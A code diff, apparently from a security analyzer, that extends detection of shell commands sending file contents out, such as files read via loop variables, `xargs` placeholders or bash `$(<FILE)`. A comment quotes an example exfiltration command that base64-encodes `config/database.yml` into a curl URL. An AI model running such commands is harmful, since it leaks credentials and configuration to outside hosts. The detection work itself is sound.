@@ -302,11 +302,15 @@ const VERSION_FILE =
   /(?:^|\/)(?:VERSION|\.?version|\.nvmrc|\.node-version|\.python-version|\.ruby-version|\.tool-versions|REVISION|\.git\/HEAD)$/i;
 
 /**
- * Whether an operand of a file reader names what it reads: a path (with `.` or `/`), or any operand
+ * Whether an operand of a file reader names what it reads: a path (with `.` or `/`), a file named at
+ * run time (below), or any operand
  * of an archiver, which reads folders named bare (`tar cz config`), except tar's old-style mode word.
  */
 function readOperand(c: ShellCommand, a: string, i: number): boolean {
   if (/[./]/.test(a)) return true;
+  // a file named at run time by a loop, `read` or xargs: `$f`, `${chunk}`, `{}` (a lower-case name
+  // is the script's own; an upper-case one is configuration, such as `$TOKEN_FILE`)
+  if (a === '{}' || /^\$\{?[a-z_][a-z0-9_]{0,31}\}?$/.test(a)) return true;
   if (c.name === 'tar') return !(i === 0 && /^[A-Za-z]+$/.test(a) && /[crux]/.test(a));
   return c.name === 'zip' && i > 0;
 }
@@ -334,16 +338,37 @@ function httpieFiles(cmd: ShellCommand): string[] {
 }
 
 /**
+ * Whether `word` holds the substitution `c`: its words as written, or its program's name after
+ * `$(` with a variable the analysis expanded (`$(cat $f)` read as `cat /tmp/p_*` inside
+ * `for f in /tmp/p_*`).
+ */
+function holdsSubstitution(word: string, c: ShellCommand): boolean {
+  if (c.argv.every((x) => word.includes(x))) return true;
+  const at = word.indexOf(`$(${c.name} `);
+  if (at < 0) return false;
+  const end = word.indexOf(')', at);
+  return word.slice(at, end < 0 ? undefined : end).includes('$', 2);
+}
+
+/** Bash's `$(<FILE)`, which reads FILE without running a program. */
+function bashFileReads(word: string): string[] {
+  if (!word.includes('$(<')) return [];
+  return [...word.matchAll(/\$\(<\s*["']?([^)"'\s]{1,256})/g)]
+    .map((m) => m[1] ?? '')
+    .filter((f) => !VERSION_FILE.test(f));
+}
+
+/**
  * Files whose content a `$(...)` in one of this command's arguments puts there
  * (`curl "https://h/?d=$(base64 -w0 config/database.yml)"`): the call carries that file.
  */
 function substitutedFiles(cmd: ShellCommand, all: ShellAnalysis): string[] {
   const words = cmd.argv.slice(1).filter((a) => a.includes('$(') || a.includes('`'));
   if (words.length === 0) return [];
-  const files: string[] = [];
+  const files = words.flatMap(bashFileReads);
   for (const c of all.commands) {
     if (!c.substitution || !FILE_READERS.has(c.name)) continue;
-    if (!words.some((w) => c.argv.every((x) => w.includes(x)))) continue;
+    if (!words.some((w) => holdsSubstitution(w, c))) continue;
     const read = [
       ...c.argv.slice(1).filter((a, i) => !a.startsWith('-') && readOperand(c, a, i)),
       ...c.redirects.filter((r) => r.op === '<').map((r) => r.target),
